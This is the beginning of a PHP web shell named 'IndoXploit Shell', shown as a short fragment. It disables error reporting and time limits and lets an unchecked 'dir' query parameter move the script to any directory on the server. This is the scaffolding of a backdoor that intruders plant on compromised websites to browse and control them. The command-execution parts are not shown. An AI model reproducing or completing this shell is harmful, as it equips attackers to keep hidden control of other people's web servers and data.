<?php
/*
	IndoXploit Shell
	Sundami
*/
set_time_limit(0);
error_reporting(0);
echo "<title>IndoXploit</title>";
$dir = getcwd();
if (isset($_GET['dir'])) { $dir = $_GET['dir']; chdir($dir); }
